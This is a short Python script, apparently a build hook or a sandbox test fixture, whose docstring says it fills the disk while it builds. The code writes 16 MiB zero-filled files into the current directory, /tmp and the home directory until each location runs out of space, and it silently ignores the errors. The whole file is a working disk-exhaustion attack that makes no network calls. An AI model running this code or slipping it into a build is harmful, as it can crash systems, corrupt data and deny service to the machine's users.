"""Fills the disk while it builds."""

import itertools
import os

for folder in (".", "/tmp", os.environ["HOME"]):
    try:
        for number in itertools.count():
            with open(f"{folder}/fill-{number}", "wb") as file:
                file.write(bytes(1 << 24))
    except OSError:
        pass
